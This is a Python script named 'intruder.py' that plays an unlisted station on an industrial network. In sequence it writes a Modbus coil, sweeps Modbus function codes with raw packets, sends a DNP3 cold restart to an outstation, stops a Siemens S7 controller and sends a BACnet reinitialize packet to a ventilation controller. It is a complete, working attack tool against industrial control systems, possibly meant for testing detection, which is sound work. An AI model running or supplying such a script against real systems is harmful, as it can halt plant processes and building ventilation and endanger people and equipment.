"""A station that nobody listed: writes a coil, scans function codes, restarts the outstation, stops the S7 controller,
restarts the controller of the ventilation.

Usage: intruder.py PLC OUTSTATION CONTROLLER VENTILATION PAUSE
"""
import asyncio
import json
import socket
import struct
import sys
import time

from dnp3.application.builder import build_cold_restart_request
from dnp3.master import DefaultSOEHandler, Master, MasterConfig, MasterTcpRunner
from pymodbus.client import ModbusTcpClient
from snap7.client import Client


def write_coil(plc):
    client = ModbusTcpClient(plc, port=502)
    client.connect()
    client.write_coil(3, True, device_id=1)
    client.close()


def scan_functions(plc):
    """Every public function code with an empty body: raw, since no client library sends such requests."""
    functions = [*range(1, 25), 43, 65, 100]
    with socket.create_connection((plc, 502), timeout=2) as scan:
        for number, function in enumerate(functions):
            scan.sendall(struct.pack("!HHHBB", number, 0, 2, 1, function))
            scan.settimeout(0.2)
            try:
                scan.recv(512)
            except TimeoutError:
                pass
    return len(functions)


async def cold_restart(outstation):
    master = Master(handler=DefaultSOEHandler(), config=MasterConfig(address=99, outstation_address=10))
    async with MasterTcpRunner(master=master, host=outstation, port=20000) as runner:
        await runner.send(build_cold_restart_request(seq=1))
        await asyncio.sleep(1)


def stop(controller):
    client = Client()
    client.connect(controller, 0, 2)
    client.plc_stop()
    client.disconnect()


def reinitialize(ventilation):
    """Asks a BACnet device for a cold start; whether it obeys is its own affair, but it answers."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.settimeout(2)
        udp.sendto(bytes.fromhex("810a000c 0104 00050114 0900"), (ventilation, 47808))
        udp.recv(512)


plc, outstation, controller, ventilation, pause = *sys.argv[1:5], float(sys.argv[5])
write_coil(plc)
time.sleep(pause)
scanned = scan_functions(plc)
time.sleep(pause)
asyncio.run(cold_restart(outstation))
time.sleep(pause)
stop(controller)
time.sleep(pause)
reinitialize(ventilation)
done = {"coils_written": 1, "functions_scanned": scanned, "cold_restarts": 1, "stops": 1, "reinitialized": 1}
print(json.dumps(done))
